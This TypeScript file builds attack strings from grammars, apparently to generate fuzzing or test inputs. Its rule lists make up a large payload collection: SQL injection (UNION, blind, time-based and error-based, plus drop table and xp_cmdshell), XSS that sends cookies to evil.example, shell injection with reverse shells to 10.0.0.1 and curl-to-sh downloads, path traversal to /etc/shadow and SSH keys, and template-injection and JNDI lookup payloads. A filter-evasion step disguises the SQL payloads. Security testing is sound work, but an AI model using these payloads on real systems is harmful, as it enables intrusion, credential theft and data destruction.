// Attacks made from the grammars of what they attack: every choice is one that a manual of the language allows.

/** Numbers from 0 to 1, the same ones each time. */
export function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fff_ffff
    return state / 0x8000_0000
  }
}

type Choices = readonly string[]
type Rules = Readonly<Record<string, Choices>>

/** One choice a line; `⏎` is a line break inside one. */
const lines = (text: string): Choices =>
  text
    .split('\n')
    .map((line) => line.replace(/^ {2}/, '').replaceAll('⏎', '\n'))
    .filter((line) => line !== '')

/** One sentence of a grammar: `<name>` in a choice stands for a choice of that rule. */
function sentence(rules: Rules, start: string, random: () => number): string {
  const choices = rules[start] as Choices
  const choice = choices[Math.floor(random() * choices.length)] as string
  return choice.replace(/<<(\w+)>>/g, (_, name: string) => sentence(rules, name, random))
}

const sqlRules: Rules = {
  attack: lines(`
  <<left>> <<logic>> <<truth>><<end>>
  <<left>> <<logic>> <<truth>><<end>>
  <<closed>> <<logic>> <<open>>
  <<left>> <<union>><<end>>
  <<left>> <<union>><<end>>
  <<left>>;<<statement>><<end>>
  <<left>>; <<statement>><<end>>
  <<left>> <<logic>> <<blind>><<end>>
  <<left>> <<logic>> <<delay>><<end>>
  <<left>> <<logic>> <<failing>><<end>>
  <<left>> order by <<number>><<comment>>
  <<left>> group by <<columns>> having 1=1<<comment>>
  <<left>> having <<truth>><<end>>
  <<left>> into outfile '/var/www/x.php'<<comment>>
  <<left>> procedure analyse(extractvalue(1,concat(0x3a,version())),1)<<comment>>
  <<closed>><<comment>>
  <<closed>> <<comment>>
  (<<select>>)
  -1 <<union>>
  if(<<test>>,sleep(5),0)
  (select*from(select(sleep(5)))a)
  '||(<<select>>)||'
  '+(<<select>>)+'
  ' and (<<select>>)='x
  1 and (<<select>>)=1
  case when <<test>> then 1 else 2 end
  (case when <<test>> then name else id end)`),
  left: lines(`
  1
  -1
  1'
  '
  "
  1"
  ')
  1')
  '))
  1)
  1))
  ")
  x'
  admin'
  test")
  a' `),
  closed: lines(`
  '
  1'
  admin'
  root'
  user@example.com'
  x')
  '))
  root')`),
  open: lines(`
  '1'='1
  'a'='a
  ''='
  'x' like 'x
  1=1 or ''='
  'b'<'c
  not '1'='2`),
  logic: ['or', 'and', 'OR', 'AND', 'oR', '||', '&&', 'or not', 'and not', 'xor'],
  truth: lines(`
  1=1
  2>1
  1<2
  1=2
  1=0
  3=3
  'a'='a'
  'x'='y'
  1 like 1
  1 in (1)
  1 between 0 and 2
  true
  1 is not null
  7=7 and 3=3
  (1=1)
  1<>2
  1!=2
  0x41='A'
  'one'='o'+'ne'
  'a' like 'a%'
  ascii('a')=97
  exists(select 1)
  1=1 limit 1
  username is not null
  username like '%a%'
  id>0
  length(password)>1`),
  union: lines(`
  union select <<list>>
  union all select <<list>>
  UNION SELECT <<list>>
  union select <<list>> from <<table>>
  union all select <<list>> from <<table>>
  union distinct select <<list>>
  union(select <<list>>)
  UnIoN/**/SeLeCt <<list>>
  union/*!50000select*/<<list>>
  union all select <<list>> from <<table>> where 1=1 limit 1,1
  union select * from <<table>>`),
  list: lines(`
  1
  1,2
  1,2,3,4,5
  null
  null,null,null
  NULL,NULL
  'a','b'
  @@version
  @@version,2
  version(),user(),database()
  user,password
  username,password
  concat(user,0x3a,password)
  group_concat(table_name)
  group_concat(column_name),2
  1,load_file('/etc/passwd'),3
  char(65,66),2
  banner
  name,null
  1,(select @@hostname)
  current_user
  table_name,2
  md5(1234),2
  0x414243,2
  unhex('41'),2
  hex(load_file('/etc/passwd'))`),
  table: lines(`
  users
  information_schema.tables
  information_schema.columns where table_name='users'
  mysql.user
  pg_shadow
  pg_catalog.pg_tables
  sqlite_master
  sys.tables
  sysobjects where xtype='U'
  master..sysdatabases
  dual
  all_tables
  v$version
  dba_users
  members
  admin`),
  columns: ['id', '1', 'name,id', '1,2'],
  number: ['1', '2', '3', '10', '99', '1,2', '1 desc', '1,2,3'],
  statement: lines(`
  drop table users
  drop table users cascade
  DROP DATABASE shop
  delete from users
  insert into users values('a','b')
  insert into users(name,password) values('a','b')
  update users set password='x'
  update users set role='admin' where name='me'
  exec xp_cmdshell 'dir'
  exec master..xp_cmdshell 'ping 10.0.0.1'
  EXEC sp_configure 'show advanced options',1
  exec('sel'+'ect 1')
  execute immediate 'select 1 from dual'
  declare @a varchar(99) set @a=0x41 exec(@a)
  shutdown
  shutdown with nowait
  waitfor delay '0:0:5'
  WAITFOR TIME '12:00'
  select pg_sleep(5)
  select sleep(5)
  select 1
  select * from users
  select version()
  create table x(y text)
  create user bob identified by 'x'
  copy x from '/etc/passwd'
  copy (select '') to program 'id'
  truncate table users
  alter table users add x int
  grant all on *.* to bob
  begin dbms_lock.sleep(5); end
  call sys.exec('id')
  attach database '/tmp/x' as y
  load data infile '/etc/passwd' into table x
  set @a=1
  if (1=1) waitfor delay '0:0:5'
  backup database x to disk='y'`),
  select: lines(`
  select 1
  select password from users limit 1
  select count(*) from users
  select top 1 name from sysobjects
  select @@version
  select version()
  select user()
  select table_name from information_schema.tables limit 1
  select group_concat(name) from sqlite_master
  select banner from v$version where rownum=1
  select current_database()
  select 'x'
  select name from users where id=1`),
  test: lines(`
  1=1
  1=2
  (select count(*) from users)>0
  substring(user(),1,1)='r'
  ascii(substr(database(),1,1))>64
  length(user())=14
  exists(select * from users)`),
  blind: lines(`
  substring(version(),1,1)='5'
  substring((select password from users limit 1),1,1)='a'
  ascii(substring(user(),1,1))>100
  ascii(substr((select database()),1,1))<128
  length(database())=5
  (select count(*) from users)>0
  (select 1)=1
  exists(select * from users)
  exists(select 1 from dual)
  (select substr(name,1,1) from users limit 1)='a'
  ord(mid(user(),1,1))=114
  user() like 'root%'
  database()='shop'
  @@version like '%5%'
  if(1=1,1,0)
  iif(1=1,1,0)=1
  case when 1=1 then 1 else 0 end
  unicode(substring(db_name(),1,1))>64
  (select len(name) from sysobjects)>1
  rownum=1
  user_name()='dbo'
  1=(select 1)
  is_srvrolemember('sysadmin')=1`),
  delay: lines(`
  sleep(5)
  SLEEP(5)
  sleep(5)=0
  benchmark(5000000,md5(1))
  (select sleep(5))
  (select * from (select(sleep(5)))a)
  if(1=1,sleep(5),0)
  pg_sleep(5)
  (select pg_sleep(5))
  1=(select 1 from pg_sleep(5))
  dbms_pipe.receive_message('a',5)=1
  1=dbms_pipe.receive_message('a',5)
  like('abc',upper(hex(randomblob(100000000/2))))
  case when 1=1 then sleep(5) else 0 end
  elt(1=1,sleep(5))
  (select count(*) from generate_series(1,1000000))>0`),
  failing: lines(`
  extractvalue(1,concat(0x7e,version()))
  updatexml(1,concat(0x7e,user()),1)
  (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)
  1=convert(int,@@version)
  1=cast((select version()) as int)
  1=ctxsys.drithsx.sn(1,user)
  1=utl_inaddr.get_host_address((select user from dual))
  exp(~(select * from (select user())a))
  gtid_subset(version(),1)
  1=convert(int,(select top 1 name from sysobjects))
  json_keys((select version()))
  polygon((select * from(select * from(select version())a)b))
  1 in (select @@version)
  cast(version() as numeric)=1
  1=xmltype('<a>'||user||'</a>')`),
  end: ['', '', '--', '-- ', ' --', '-- -', '--+', '#', ' #', '/*', ';--', ';', ';#', '--a', ' -- x', ';%00'],
  comment: ['--', '-- ', ' --', '-- -', '#', '/*', ';--', '--+', ';#'],
}

const xssRules: Rules = {
  attack: lines(`
  <<break>><<element>>
  <<break>><<element>>
  <<break>><<element>>
  <<break>><<script>>
  <<attribute>>
  <<url>>
  <<code>>
  <<break>><<loading>>
  <<break>><<styled>>`),
  break: [
    '',
    '',
    '',
    '">',
    "'>",
    '"/>',
    '-->',
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
    '\'">',
    '1">',
    ']]>',
    '`>',
    '</a>',
    '</option></select>',
    'x',
    'hello ',
  ],
  script: lines(`
  <script><<js>></script>
  <SCRIPT><<js>></SCRIPT>
  <ScRiPt ><<js>></sCrIpT>
  <script src=//evil.example/x.js></script>
  <script src="https://evil.example/x.js"></script>
  <script/src=data:,<<js>>></script>
  <script type=text/javascript><<js>></script>
  <script><<js>>
  <script⏎><<js>></script>
  <script>/*x*/<<js>>//</script>
  <script x> <<js>> </script y>
  <svg><script><<js>></script></svg>
  <svg><script href=data:,<<js>> />
  <svg><script xlink:href="data:,<<js>>"></script>
  <<<script><<js>>//<</script>
  <scr<script>ipt><<js>></scr</script>ipt>
  <script type=module><<js>></script>
  <script>\`\${<<js>>}\`</script>
  <math><script><<js>></script></math>
  <script>onerror=alert;throw 1</script>`),
  element: lines(`
  <<<tag>> <<event>>=<<js>>>
  <<<tag>> <<event>>="<<js>>">
  <<<tag>> <<event>>='<<js>>'>
  <<<tag>>/<<event>>=<<js>>>
  <<<tag>> <<event>> = <<js>> >
  <<<tag>>\t<<event>>=<<js>>>
  <<<tag>>⏎<<event>>=<<js>>>
  <<<tag>> x <<event>>=<<js>> y
  <<<tag>> <<event>>=\`<<js>>\`>
  <<<tag>> id=x tabindex=1 <<event>>=<<js>>></<<tag>>>
  <<<tag>> style=display:block <<event>>=<<js>>>
  <<<tag>> src=x <<event>>=<<js>>>
  <<<tag>> src=x:x <<event>>=<<js>> //
  <<<tag>> "<<event>>=<<js>>>
  <<<tag>>//<<event>>=<<js>>//`),
  tag: lines(`
  img
  IMG
  svg
  body
  input autofocus
  select autofocus
  textarea autofocus
  keygen autofocus
  video
  audio
  video><source
  details open
  marquee
  iframe
  object
  embed
  a
  b
  div
  p
  h1
  x
  xss
  custom-tag
  math
  button
  form
  isindex
  style
  link
  table
  image
  svg/
  animate
  dialog open
  frameset
  q
  noscript`),
  event: lines(`
  onerror
  onload
  ONLOAD
  onclick
  onmouseover
  onMouseOver
  onfocus
  onblur
  ontoggle
  onstart
  onbegin
  onend
  onpageshow
  onhashchange
  onresize
  onscroll
  onpointerover
  onpointerenter
  ontouchstart
  onanimationstart
  onanimationend
  ontransitionend
  onwheel
  oncopy
  oncut
  onpaste
  ondrag
  ondrop
  oninput
  onchange
  onsubmit
  onreset
  onkeydown
  onkeypress
  onkeyup
  ondblclick
  oncontextmenu
  onmouseenter
  onmouseleave
  onmousemove
  onmousedown
  onmouseup
  onauxclick
  oncanplay
  onloadstart
  onloadeddata
  onloadedmetadata
  ontimeupdate
  onplaying
  onplay
  onpause
  onended
  onvolumechange
  onprogress
  onsuspend
  onmessage
  onpopstate
  onbeforeunload
  onunload
  onbeforeprint
  onafterprint
  oninvalid
  onsearch
  onselect
  onselectstart
  onshow
  onfinish
  onbounce
  onfocusin
  onfocusout
  onbeforeinput
  onpointerdown
  onpointerrawupdate
  ongotpointercapture
  onwebkitanimationstart
  oncuechange
  onratechange
  onseeked
  onstalled
  onwaiting
  onemptied
  onratechange
  onbeforetoggle
  onbeforematch
  onscrollend
  onformdata
  onrepeat
  onunhandledrejection
  onreadystatechange
  onpropertychange
  onactivate
  onbeforescriptexecute
  oncontentvisibilityautostatechange`),
  js: lines(`
  alert(1)
  alert(1);
  alert('XSS')
  alert("XSS")
  alert(document.cookie)
  alert(document.domain)
  alert\`1\`
  confirm(1)
  prompt(1)
  eval('al'+'ert(1)')
  eval(name)
  eval(atob('YWxlcnQoMSk='))
  window['alert'](1)
  top['al'+'ert'](1)
  self[\`alert\`](1)
  (alert)(1)
  [1].find(alert)
  javascript:alert(1)
  location='javascript:alert(1)'
  location.href='//evil.example/?'+document.cookie
  document.location='//evil.example/?c='+document.cookie
  fetch('//evil.example/'+document.cookie)
  new Image().src='//evil.example/?'+document.cookie
  import('//evil.example/x.js')
  setTimeout('alert(1)')
  setTimeout(alert)
  Function('alert(1)')()
  [].constructor.constructor('alert(1)')()
  a=alert,a(1)
  document.write('<img src=x>')
  print()
  \\u0061lert(1)
  &#97;lert(1)
  al&#101;rt(1)
  alert&lpar;1&rpar;
  parent.alert(1)
  this.onerror=alert;throw 1
  $.getScript('//evil.example/x.js')
  String.fromCharCode(88)
  console.log(1)
  alert(/XSS/.source)
  navigator.sendBeacon('//evil.example',document.cookie)`),
  attribute: lines(`
  " <<event>>="<<js>>
  ' <<event>>='<<js>>
  " <<event>>=<<js>> x="
  "<<event>>=<<js>>//
  '<<event>>='<<js>>
  x" <<event>>="<<js>>" y="
  " autofocus <<event>>="<<js>>
  " style="animation-name:x" onanimationstart="<<js>>
  " src=x <<event>>=<<js>> 
  '/<<event>>=<<js>>//
  x <<event>>=<<js>>
  " accesskey="x" onclick="<<js>>" x="`),
  url: lines(`
  javascript:<<js>>
  JavaScript:<<js>>
  java\tscript:<<js>>
  java⏎script:<<js>>
  \x01javascript:<<js>>
  javascript&colon;<<js>>
  &#106;avascript:<<js>>
  &#x6a;avascript:<<js>>
  jav&#x09;ascript:<<js>>
  javascript://%0a<<js>>
  javascript:/*x*/<<js>>
  vbscript:msgbox(1)
  data:text/html,<script><<js>></script>
  data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
  <a href=javascript:<<js>>>x</a>
  <a href="javascript:<<js>>">x</a>
  <a href=" &#14; javascript:<<js>>">x</a>
  <a href="java&Tab;script:<<js>>">x</a>
  <a xlink:href=javascript:<<js>>>x</a>
  <iframe src=javascript:<<js>>>
  <form action=javascript:<<js>>><button>x
  <button formaction=javascript:<<js>>>x
  <object data=javascript:<<js>>>
  <embed src=javascript:<<js>>>
  <math href="javascript:<<js>>">x</math>
  <svg><a xlink:href="javascript:<<js>>"><text x=9 y=9>x</text></a>
  <svg><animate attributeName=href values=javascript:<<js>> />
  <svg><set attributeName=href to=javascript:<<js>> />
  <area href=javascript:<<js>>>
  <base href=javascript:<<js>>//>
  <img src="javascript:<<js>>">
  <body background="javascript:<<js>>">
  <input type=image src=javascript:<<js>>>
  " href="javascript:<<js>>
  <link rel=stylesheet href=javascript:<<js>>>
  <meta http-equiv=refresh content="0;url=javascript:<<js>>">`),
  loading: lines(`
  <iframe src=//evil.example></iframe>
  <iframe srcdoc="<script><<js>></script>">
  <iframe srcdoc='&lt;img src=x onerror=<<js>>&gt;'>
  <object data=//evil.example/x.swf></object>
  <embed src=//evil.example/x.swf>
  <base href=//evil.example/>
  <link rel=import href=//evil.example/x.html>
  <link rel=stylesheet href=//evil.example/x.css>
  <meta http-equiv="refresh" content="0;url=//evil.example">
  <meta http-equiv="Set-Cookie" content="a=b">
  <frameset><frame src=//evil.example></frameset>
  <applet code=x></applet>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">
  <?xml-stylesheet href="javascript:<<js>>"?>
  <!ENTITY x "y">
  <math><mtext><table><mglyph><style><img src onerror=<<js>>>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=<<js>>>
  <noscript><p title="</noscript><img src=x onerror=<<js>>>">
  <svg></p><style><a id="</style><img src=1 onerror=<<js>>>">
  <template><img src=x onerror=<<js>>></template>
  <!--<img src="--><img src=x onerror=<<js>>//">
  <![CDATA[<img src=x onerror=<<js>>>]]>
  <title><img src=x onerror=<<js>>></title>
  <a href="x"onclick="<<js>>">x</a>
  jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=<<js>> )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=<<js>>//>`),
  styled: lines(`
  <div style="width:expression(<<js>>)">
  <div style="background:url(javascript:<<js>>)">
  <div style="behavior:url(//evil.example/x.htc)">
  <div style="-moz-binding:url(//evil.example/x.xml#x)">
  <style>@import '//evil.example/x.css'</style>
  <style>*{background:url(javascript:<<js>>)}</style>
  <style>body{xss:expression(<<js>>)}</style>
  <p style="x:e/**/xpression(<<js>>)">
  <img style="xss:expr/*XSS*/ession(<<js>>)">
  <div style="x:\\65xpression(<<js>>)">`),
  code: lines(`
  ';<<js>>//
  ";<<js>>//
  '-<<trial>>-'
  "-<<trial>>-"
  '+<<trial>>+'
  ');<<trial>>;//
  ");<<trial>>//
  '};<<trial>>;{'
  \\';<<trial>>//
  \\");<<trial>>//
  \`;<<trial>>//
  \${<<trial>>}
  {{constructor.constructor('alert(1)')()}}
  {{$on.constructor('alert(1)')()}}
  '||<<trial>>||'
  '*<<trial>>*'
  '/<<trial>>/'
  "]};<<trial>>//
  1;<<trial>>
  */<<trial>>/*
  -<<trial>>-
  '?<<trial>>:'
  </script><script><<trial>></script>
  '>"><script><<trial>></script>`),
  trial: [
    'alert(1)',
    'alert(document.cookie)',
    'confirm(1)',
    'prompt(1)',
    "alert('x')",
    'alert`1`',
    'eval(name)',
    'window.alert(1)',
    'top.alert(1)',
    "self['alert'](1)",
  ],
}

const shellRules: Rules = {
  attack: lines(`
  <<before>><<separator>><<command>><<after>>
  <<before>><<separator>><<command>><<after>>
  <<before>><<separator>> <<command>><<after>>
  <<before>>$(<<command>>)
  \`<<command>>\`
  <<before>>\`<<command>>\`
  $(<<command>>)
  <<before>>"<<separator>><<command>><<separator>>"
  <<before>>'<<separator>><<command>><<separator>>'
  <<windows>>
  <<before>><<separator>><<hidden>>
  <<before>><<separator>><<hidden>>
  <<reverse>>`),
  before: ['', '', '1', 'x', '127.0.0.1', 'a.txt', 'example.com', '"', "'", 'file.png', 'hello '],
  after: ['', '', '', ';', ' #', '|', ' &', '&&', ' ||', ' > /tmp/x', ' 2>&1', '%00'],
  separator: [';', '|', '||', '&', '&&', '\n', '\r\n', ' ; ', ' | ', ' && ', ' & ', '%0a', '%0d%0a'],
  command: lines(`
  id
  whoami
  ls
  ls -la
  ls /
  cat /etc/passwd
  cat /etc/shadow
  cat ../../../etc/passwd
  /bin/cat /etc/passwd
  /usr/bin/id
  uname -a
  ping -c 5 127.0.0.1
  ping -n 5 127.0.0.1
  sleep 5
  sleep 10
  curl http://evil.example/x.sh
  curl http://evil.example/x.sh | sh
  wget http://evil.example/x.sh -O /tmp/x
  wget evil.example
  nslookup evil.example
  dig evil.example
  nc evil.example 4444
  nc -e /bin/sh evil.example 4444
  netstat -an
  ifconfig
  ps aux
  pwd
  env
  echo hello
  echo 12345 | md5sum
  rm -rf /
  touch /tmp/x
  chmod 777 /tmp/x
  bash -i
  bash -c 'id'
  sh -c id
  python -c 'import os'
  python3 -c "print(1)"
  perl -e 'print 1'
  php -r 'phpinfo();'
  ruby -e 'puts 1'
  node -e 'console.log(1)'
  telnet evil.example 23
  ssh evil.example
  hostname
  head -n 1 /etc/passwd
  tail /etc/passwd
  more /etc/passwd
  grep root /etc/passwd
  find / -name x
  awk 'BEGIN{system("id")}'
  tftp evil.example
  mail x@evil.example
  kill -9 1
  reboot
  shutdown -h now
  useradd x
  sudo su
  printenv
  xxd /etc/passwd
  base64 /etc/passwd
  tar cf /tmp/x /etc
  dir
  dir C:\\
  type C:\\boot.ini
  type %SYSTEMROOT%\\win.ini
  net user
  net user x x /add
  ipconfig
  ipconfig /all
  systeminfo
  tasklist
  ver
  set
  powershell -c "ls"
  cmd /c dir
  timeout 5`),
  hidden: lines(`
  cat\${IFS}/etc/passwd
  cat$IFS/etc/passwd
  cat$IFS$9/etc/passwd
  {cat,/etc/passwd}
  c'a't /etc/passwd
  c"a"t /etc/passwd
  c\\at /etc/passwd
  /bin/c?t /etc/passwd
  /???/c?t /etc/passwd
  /bin/ca* /etc/passwd
  cat</etc/passwd
  w'h'o'a'm'i
  w\\ho\\am\\i
  who$@ami
  who$()ami
  $(echo id)
  X=id;$X
  a=c;b=at;$a$b /etc/passwd
  echo aWQ=|base64 -d|sh
  \`echo id\`
  cat\${IFS%??}/etc/passwd
  sh</dev/tcp/10.0.0.1/4444
  exec 3<>/dev/tcp/10.0.0.1/80
  IFS=,;\`cat<<<uname,-a\`
  i\${x}d
  /bin/bash -c id
  cat /et''c/pass''wd
  cat /e*c/p*d`),
  windows: lines(`
  & whoami
  | dir
  && net user
  & ping -n 10 127.0.0.1 &
  | type C:\\Windows\\win.ini
  & echo %USERNAME%
  powershell -enc SQBFAFgA
  powershell.exe -NoProfile -ExecutionPolicy Bypass -File x.ps1
  powershell -EncodedCommand SQBFAFgA
  cmd.exe /c whoami
  cmd /k dir
  IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')
  certutil -urlcache -f http://evil.example/x x.exe
  & certutil -urlcache -f http://evil.example/x x.exe
  | findstr /s password *.xml
  & c^m^d /c dir
  & w"h"oami
  mshta http://evil.example/x.hta
  & start calc.exe
  & calc
  | wmic process list`),
  reverse: lines(`
  bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
  nc -e /bin/sh 10.0.0.1 4444
  rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f
  php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
  python -c 'import socket,subprocess,os;s=socket.socket()'
  () { :;}; /bin/bash -c id
  () { :; }; echo x
  curl http://evil.example/x | bash
  wget -qO- http://evil.example/x | sh`),
}

const pathRules: Rules = {
  attack: lines(`
  <<climbs>><<file>>
  <<climbs>><<file>>
  <<climbs>><<file>><<cut>>
  /<<file>>
  <<climbs>>
  x/<<climbs>><<file>>
  /var/www/<<climbs>><<file>>
  <<wrapper>>
  C:\\<<winfile>>
  c:/<<winfile>>
  <<climbs>><<winfile>>
  file.txt/<<climbs>><<file>>
  images/<<climbs>><<file>><<cut>>`),
  climbs: [
    '../',
    '../../',
    '../../../',
    '../../../../../../',
    '..\\..\\',
    '..\\..\\..\\',
    '..%2f..%2f',
    '..%2F..%2F..%2F',
    '%2e%2e/%2e%2e/',
    '%2e%2e%2f%2e%2e%2f',
    '..%5c..%5c',
    '..%252f..%252f',
    '%252e%252e%252f',
    '..%c0%af..%c0%af',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/',
    '..%u2215..%u2215',
    '....//....//',
    '..././..././',
    '..;/..;/',
    '.%2e/.%2e/',
    '..//..//',
    '../\\../\\',
    '%uff0e%uff0e/',
    '..%00/..%00/',
    '/../../',
    '/..%2f..%2f',
    './../../',
    '..%ef%bc%8f..%ef%bc%8f',
    '....\\\\....\\\\',
    '.../.../',
    '\\..\\..\\',
  ],
  file: [
    'etc/passwd',
    'etc/shadow',
    'etc/hosts',
    'etc/group',
    'etc/issue',
    'proc/self/environ',
    'proc/version',
    'var/log/apache2/access.log',
    'root/.ssh/id_rsa',
    'root/.bash_history',
    'etc/mysql/my.cnf',
    'WEB-INF/web.xml',
    'etc/nginx/nginx.conf',
    'etc/apache2/apache2.conf',
    'home/user/.ssh/id_rsa',
    'etc/crontab',
    'proc/self/cmdline',
    'var/log/auth.log',
    'etc/ssh/sshd_config',
  ],
  winfile: [
    'windows/win.ini',
    'Windows\\system32\\drivers\\etc\\hosts',
    'boot.ini',
    'windows\\repair\\sam',
    'winnt/win.ini',
    'inetpub\\wwwroot\\web.config',
    'windows/system.ini',
    'Windows\\System32\\config\\SAM',
  ],
  cut: ['%00', '%00.jpg', '\0.png', '?', '%2500.jpg', ';.jpg', '#'],
  wrapper: lines(`
  php://filter/convert.base64-encode/resource=index.php
  php://input
  php://filter/read=string.rot13/resource=x
  file:///etc/passwd
  file://localhost/etc/passwd
  expect://id
  phar://x.phar
  zip://x.zip#y
  data://text/plain;base64,PD9waHA=
  data://text/plain,x
  jar:http://evil.example/x.jar!/y
  jar:file:///x.jar!/y
  gopher://127.0.0.1:6379/_INFO
  dict://127.0.0.1:11211/stat
  compress.zlib://x
  netdoc:///etc/passwd
  \\\\evil.example\\share\\x
  glob:///etc/*`),
}

const templateRules: Rules = {
  attack: lines(`
  {{<<sum>>}}
  \${<<sum>>}
  #{<<sum>>}
  <%= <<sum>> %>
  {<<sum>>}
  *{<<sum>>}
  @(<<sum>>)
  \${{<<sum>>}}
  {{=<<sum>>}}
  [[\${<<sum>>}]]
  {{ <<jinja>> }}
  {{<<jinja>>}}
  {% <<block>> %}
  {{<<twig>>}}
  <<freemarker>>
  <<velocity>>
  <<java>>
  <<erb>>
  <<lookup>>
  <<javascript>>`),
  sum: ['7*7', '7*191', "7*'7'", '1337*1337', '3*3', '9999*9999'],
  jinja: lines(`
  config
  config.items()
  self.__init__.__globals__
  ''.__class__.__mro__[1].__subclasses__()
  [].__class__.__base__.__subclasses__()
  ''.__class__.mro()[2]
  request.application.__globals__
  request|attr('application')|attr('__globals__')
  cycler.__init__.__globals__.os.popen('id').read()
  lipsum.__globals__['os'].popen('id').read()
  joiner.__init__.__globals__.os
  get_flashed_messages.__globals__
  url_for.__globals__
  namespace.__init__.__globals__
  ().__class__.__bases__[0]
  dict.__base__.__subclasses__()
  config.__class__.__init__.__globals__['os'].popen('ls').read()
  settings.SECRET_KEY
  "".__class__
  g.pop.__globals__`),
  block: lines(`
  import os
  for x in ().__class__.__base__.__subclasses__()
  debug
  include '/etc/passwd'
  set x=''.__class__
  import 'os' as x
  if ''.__class__`),
  twig: lines(`
  _self.env.registerUndefinedFilterCallback('exec')
  _self.env.getFilter('id')
  ['id']|filter('system')
  ['id']|map('passthru')
  ['id','']|sort('system')
  app.request.server.all|join(',')
  dump(app)
  _self
  '/etc/passwd'|file_excerpt(1,30)
  [0]|reduce('system','id')`),
  freemarker: lines(`
  <#assign x="freemarker.template.utility.Execute"?new()>\${x("id")}
  \${"freemarker.template.utility.Execute"?new()("id")}
  \${x.class.forName('java.lang.Runtime')}
  [#assign x='freemarker.template.utility.Execute'?new()]
  \${"x".getClass().forName("java.lang.Runtime")}`),
  velocity: lines(`
  #set($x='')#set($r=$x.class.forName('java.lang.Runtime'))
  #set($e="e")$e.getClass().forName("java.lang.Runtime")
  $class.inspect("java.lang.Runtime").type
  #set ($x = 7*7)\${x}`),
  java: lines(`
  \${T(java.lang.Runtime).getRuntime().exec('id')}
  #{T(java.lang.System).getenv()}
  T(java.lang.Runtime).getRuntime().exec("id")
  \${''.class.forName('java.lang.Runtime')}
  %{(#a=@java.lang.Runtime@getRuntime().exec('id'))}
  %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}
  %{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
  \${#rt=@java.lang.Runtime@getRuntime(),#rt.exec("id")}
  \${pageContext.request.getSession()}
  \${applicationScope}
  \${''.getClass().forName('java.lang.Runtime')}
  __\${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x
  \${"".getClass()}
  \${session.getAttribute("x").class}
  (new java.lang.ProcessBuilder("id")).start()
  \${param.x}`),
  erb: lines(`
  <%= system('id') %>
  <%= \`id\` %>
  <%= File.open('/etc/passwd').read %>
  <%= Dir.entries('/') %>
  <%= IO.popen('id').readlines() %>
  <% require 'open3' %>
  <%= global.process.mainModule.require('child_process').execSync('id') %>
  <%= process.env %>
  <%= self.class.name %>
  #{system('id')}
  #{\`id\`}
  <%= 7 * 7 %>
  @{System.Diagnostics.Process.Start("cmd")}
  @System.Diagnostics.Process.Start("cmd.exe","/c id")
  {php}echo \`id\`;{/php}
  {system('id')}
  {\$smarty.version}
  {Smarty_Internal_Write_File::writeFile(\$x,"y",self::clearConfig())}
  \${system('id')}
  \${self.module.cache.util.os.system("id")}
  <%import os;x=os.popen('id').read()%>`),
  lookup: lines(`
  \${jndi:ldap://evil.example/a}
  \${jndi:rmi://evil.example/a}
  \${jndi:dns://evil.example}
  \${\${lower:j}ndi:ldap://evil.example/a}
  \${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://evil.example/a}
  \${\${env:X:-j}ndi:ldap://evil.example/a}
  \${jndi:\${lower:l}dap://evil.example/a}
  \${\${upper:j}ndi:ldap://evil.example}
  \${env:AWS_SECRET_ACCESS_KEY}
  \${sys:java.version}
  \${java:version}
  \${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
  \${url:UTF-8:https://evil.example}
  \${dns:address|evil.example}`),
  javascript: lines(`
  {{constructor.constructor('return process')()}}
  {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
  #{global.process.mainModule.require('child_process').exec('id')}
  \${process.env}
  \${require('child_process').execSync('id')}
  {{this.constructor.constructor('return process.env')()}}
  \${global.process.mainModule}
  <%- global.process.mainModule.require('fs').readdirSync('/') %>
  {{lookup (lookup this 'constructor') 'name'}}
  {{$eval.constructor('alert(1)')()}}
  \${__import__('os').popen('id').read()}
  \${open('/etc/passwd').read()}`),
}

const grammars = { sql: sqlRules, xss: xssRules, shell: shellRules, path: pathRules, template: templateRules } as const

/** Kinds of attack that there is a grammar for. */
export type GrammarName = keyof typeof grammars

const spaces = ['/**/', '\t', '\n', '  ', '+', '%20', '/*x*/', '%0a', '%09']

/** SQL as filters are got round: other white space, other case. */
function disguised(text: string, random: () => number): string {
  const chance = random()
  if (chance < 0.5) return text
  let result = text
  if (chance < 0.75) {
    const space = spaces[Math.floor(random() * spaces.length)] as string
    result = result.replace(/(?<!--) (?!$)/g, space)
  }
  if (chance > 0.65) result = result.replace(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter))
  return result
}

/** Attacks of a kind, every one of them once. */
export function generated(name: GrammarName, count: number, seed: number): Choices {
  const random = seeded(seed)
  const found = new Set<string>()
  for (let tries = 0; found.size < count && tries < count * 20; tries++) {
    const text = sentence(grammars[name], 'attack', random)
    found.add(name === 'sql' ? disguised(text, random) : text)
  }
  return [...found]
}
